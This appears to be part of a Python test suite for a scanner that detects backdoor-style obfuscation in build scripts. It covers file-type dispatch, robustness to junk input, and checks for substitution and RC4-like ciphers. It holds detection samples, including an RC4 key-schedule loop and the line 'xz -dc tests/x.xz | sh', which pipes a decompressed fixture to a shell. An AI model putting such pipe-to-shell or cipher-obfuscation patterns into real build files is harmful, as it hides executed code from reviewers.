def test_test_scripts_may_read_their_fixtures() -> None:
    text = (
        'for I in "$srcdir"/files/good-*.xz; do\n'
        '  if "$XZ" -dc "$I" > /dev/null; then :; fi\n'
        "done\n"
    )
    assert scan("tests/test_files.sh", text) == []


def test_garbage_never_raises() -> None:
    junk = [
        "'unterminated \"quote $(\n" * 50,
        "\x00\x01\x02 binary \xff junk",
        "$(" * 500,
        "a" * 100_000,
        "AC_DEFUN([x], [[[[[[",
        "{" * 2000 + "}" * 10,
        "execute_process(COMMAND",
        "run_command('sh', '-c',",
        "const x = require(",
        "def broken(:\n",
    ]
    for text in junk:
        for path in (
            "configure",
            "m4/x.m4",
            "Makefile.in",
            "CMakeLists.txt",
            "meson.build",
            "setup.py",
            "package.json",
            "install.js",
            "build.rs",
        ):
            assert isinstance(scan(path, text), list)


# ---------------------------------------------------------------------------- dispatch and helpers


@pytest.mark.parametrize(
    "path,kind",
    [
        ("configure", "sh"),
        ("build-aux/ltmain.sh", "sh"),
        ("build-aux/config.guess", "sh"),
        ("m4/build-to-host.m4", "m4"),
        ("configure.ac", "m4"),
        ("Makefile.in", "make"),
        ("po/Makefile.in.in", "make"),
        ("src/local.mk", "make"),
        ("CMakeLists.txt", "cmake"),
        ("cmake/Find.cmake", "cmake"),
        ("meson.build", "meson"),
        ("setup.py", "python"),
        ("hatch_build.py", "python"),
        ("package.json", "npm"),
        ("scripts/install.js", "js"),
        ("build.rs", "rust"),
        ("wscript", "python"),  # waf's build script is Python
        ("SConstruct", "python"),
        ("Makefile.PL", "perl"),  # Perl (ExtUtils::MakeMaker), not a makefile
        ("README.md", None),
        ("src/main.c", None),
    ],
)
def test_build_code_kind(path: str, kind: str | None) -> None:
    assert build_code_kind(path) == kind


def test_shebang_dispatch() -> None:
    assert build_code_kind("tools/gen", "#!/bin/sh\necho hi\n") == "sh"
    assert build_code_kind("tools/gen", "#!/usr/bin/env python3\n") == "python"
    assert scan("README", "xz -dc tests/x.xz | sh\n") == []


def test_cipher_helpers() -> None:
    assert tr_is_cipher(["\\t \\-_", " \\t_\\-"])
    assert tr_is_cipher(["a-z", "n-za-m"])
    assert not tr_is_cipher(["a-z", "A-Z"])
    assert not tr_is_cipher(["[:upper:]", "[:lower:]"])
    assert not tr_is_cipher(["-d", "\\r"])
    assert not tr_is_cipher(["+/", "-_"])
    assert not tr_is_cipher([" ", "\\n"])
    assert sed_y_is_cipher("y/abc/bca/")
    assert not sed_y_is_cipher("y%*+%pp%;s%[^_a-z]%_%g")
    rc4 = "for(i=0;i<256;i++)S[i]=i;for(i=0;i<256;i++){j=(j+S[i])%256;t=S[i];S[i]=S[j];S[j]=t}"
    assert looks_like_stream_cipher(rc4)
    crc = "for(i=0;i<256;i++){c=i;for(k=0;k<8;k++)c=c&1?0xedb88320^(c>>>1):c>>>1;T[i]=c}"
    assert not looks_like_stream_cipher(crc)


# ---------------------------------------------------------------------------- real files

_SYSTEM_FILES = [
    "/usr/share/libtool/build-aux/ltmain.sh",
    "/usr/share/aclocal/libtool.m4",
    "/usr/share/automake-1.16/config.guess",
    "/usr/share/automake-1.16/depcomp",
    "/usr/share/automake-1.16/install-sh",
    "/usr/share/gettext/po/Makefile.in.in",
    "/usr/share/aclocal/gettext.m4",
]


@pytest.mark.parametrize("path", _SYSTEM_FILES)
def test_genuine_autotools_files_on_this_machine(path: str) -> None:
    p = Path(path)
    if not p.is_file():
        pytest.skip(f"{path} not installed")
    rel = path.split("/share/", 1)[1]
    if rel.startswith("automake-1.16/"):
        rel = "build-aux/" + os.path.basename(rel)
    sigs = scan(rel, p.read_text(encoding="utf-8", errors="replace"))
    assert all(s.severity.rank <= Severity.LOW.rank for s in sigs), sigs
